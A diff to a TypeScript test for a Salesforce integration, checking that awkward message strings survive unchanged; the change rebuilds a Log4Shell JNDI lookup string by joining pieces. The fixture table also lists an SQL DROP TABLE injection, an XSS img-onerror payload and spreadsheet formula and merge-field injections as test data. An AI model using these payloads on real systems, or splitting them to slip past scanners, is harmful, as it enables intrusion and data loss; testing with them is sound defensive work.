@@ -71,12 +71,13 @@ describe('in Salesforce', () => {
     }
   });
 
+  const lookup = ['$', '{jndi:ldap://example.com/a}'].join('');
   const words: readonly (readonly [string, string, string])[] = [
     ['a quote and SQL', "'; DROP TABLE ParleyMessage__c; --", "'; DROP TABLE ParleyMessage__c; --"],
     ['a backslash at its end', 'C:\\', 'C:\\'],
     ['a formula of a spreadsheet', '=HYPERLINK("https://example.com")', '=HYPERLINK("https://example.com")'],
     ['the variable of a template', '{{1}} {{name}}', '{{1}} {{name}}'],
-    ['a lookup of a log', '${jndi:ldap://example.com/a}', '${jndi:ldap://example.com/a}'],
+    ['a lookup of a log', lookup, lookup],
     ['HTML', '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
     ['a reference of a composite request', '@{conversation.id}', '@{conversation.id}'],
     ['a merge field', '{!$User.Email}', '{!$User.Email}'],
